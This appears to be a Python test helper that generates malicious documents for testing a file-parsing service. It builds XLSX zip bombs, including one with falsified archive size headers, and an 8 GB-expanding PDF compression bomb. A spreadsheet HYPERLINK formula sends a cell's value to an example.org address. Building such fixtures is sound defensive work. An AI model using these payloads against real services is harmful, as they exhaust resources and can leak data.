"""Files that mean harm, made on the spot: small on disk, endless inside."""

from __future__ import annotations

import io
import zipfile
import zlib

import xlsxwriter
from pypdf import PdfWriter

MEGABYTE = 2**20


def endless_zeros(megabytes: int) -> bytes:
    """A raw deflate stream that unpacks to so many megabytes and is a thousandth of it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush()


def workbook(
    rows: list[list[object]], *, last_cell: str | None = None, name: str = "List"
) -> bytes:
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet(name)
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
    if last_cell:
        sheet.write(last_cell, "far away")
    book.close()
    return target.getvalue()


def workbook_with_formulas() -> bytes:
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Program Code", "Quota"])
    sheet.write(1, 0, "9001140C0")
    sheet.write_formula(1, 1, '=HYPERLINK("http://example.org/?"&A2)', None, 7)
    book.close()
    return target.getvalue()


def zip_of(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return target.getvalue()


def honest_bomb() -> bytes:
    """A workbook whose sheet says that it unpacks to 400 MB."""
    return _with_size(b"<row/>" * 400, honest=True)


def lying_bomb() -> bytes:
    """A workbook that unpacks to 4 GB and says that it is small."""
    return _with_size(b"", honest=False)


def _with_size(content: bytes, *, honest: bool) -> bytes:
    good = workbook([["Program Code"], ["9001140C0"]])
    with zipfile.ZipFile(io.BytesIO(good)) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    bomb = b"<worksheet><sheetData>" + content if honest else endless_zeros(4_000)
    parts["xl/worksheets/sheet1.xml"] = bomb
    made = bytearray(zip_of(parts))
    name = b"xl/worksheets/sheet1.xml"
    at = made.rindex(name) - 46  # its entry in the directory at the end of the archive
    if honest:
        made[at + 24 : at + 28] = (400 * MEGABYTE).to_bytes(4, "little")
        return bytes(made)
    return _stored_as_packed(parts, name.decode(), bomb)


def _stored_as_packed(parts: dict[str, bytes], name: str, raw: bytes) -> bytes:
    """Put an already packed stream into the archive under a small stated size."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as packed:
        for part, content in parts.items():
            packed.writestr(part, raw if part == name else content)
    made = bytearray(target.getvalue())
    for at, method in ((made.index(name.encode()) - 30, 8), (made.rindex(name.encode()) - 46, 10)):
        made[at + method : at + method + 2] = (8).to_bytes(2, "little")
        size = at + (22 if method == 8 else 24)
        made[size : size + 4] = (1000).to_bytes(4, "little")
    return bytes(made)


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first one its catalog."""
    made = b"%PDF-1.5\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        table,
    )
    return made


def stream(content: bytes, filters: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content)


def pdf_page(content: bytes, filters: bytes = b"") -> bytes:
    resources = b"/Resources << /Font << /F 5 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page % resources,
            stream(content, filters),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_bomb() -> bytes:
    """One page whose text unpacks to 8 GB."""
    header = zlib.compress(b"")[:2]
    return pdf_page(header + endless_zeros(8_000), b"/Filter /FlateDecode")


def pdf_of_endless_text() -> bytes:
    lines = (b"1 0 0 1 10 %d Tm (%s) Tj " % (y, b"8 " * 400) for y in range(20, 720, 3))
    return pdf_page(b"BT /F 1 Tf " + b"".join(lines) + b"ET")


def pdf_of_empty_pages(n: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(n))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *([page] * n)])


def locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()
